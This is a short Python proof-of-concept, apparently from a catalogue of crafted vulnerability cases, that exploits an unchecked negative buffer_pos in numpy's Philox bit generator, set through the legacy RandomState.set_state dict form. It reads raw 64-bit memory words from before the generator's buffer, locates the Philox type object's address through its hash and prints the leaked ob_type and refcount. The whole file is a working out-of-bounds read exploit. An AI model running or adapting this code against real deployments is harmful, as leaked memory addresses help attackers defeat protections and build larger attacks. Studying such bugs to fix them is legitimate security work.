# source: numpy 1.24 numpy/random/mtrand.pyx RandomState(bit_generator) and set_state (a dict is handed to the bit generator's state setter as is); _philox.pyx buffer_pos unchecked
# family: unchecked index in a bit generator's state (legacy RandomState over Philox, set_state dict form)
# goal: out-of-bounds memory read: RandomState(Philox(0)).set_state(state with buffer_pos=-120), then tomaxint() returns the raw 64-bit words before Philox's buffer
import numpy as np

M64 = 0xFFFFFFFFFFFFFFFF
h = hash(np.random.Philox) & M64
type_addr = ((h << 4) | (h >> 60)) & M64

rs = np.random.RandomState(np.random.Philox(0))
s = rs.get_state(legacy=False)
n = 120
s["buffer_pos"] = -n
rs.set_state(s)
q = [int(v) & M64 for v in rs.randint(0, 2**64, size=n, dtype=np.uint64)]
for i, v in enumerate(q):
    if v == type_addr:
        print("RandomState(Philox).set_state: read ob_type", hex(v), "(the Philox type) at buffer[%d]; ob_refcnt before it =" % (-n + i), q[i - 1])
        break
print("raw words before buffer[0]:", [hex(v) for v in q[-8:]])
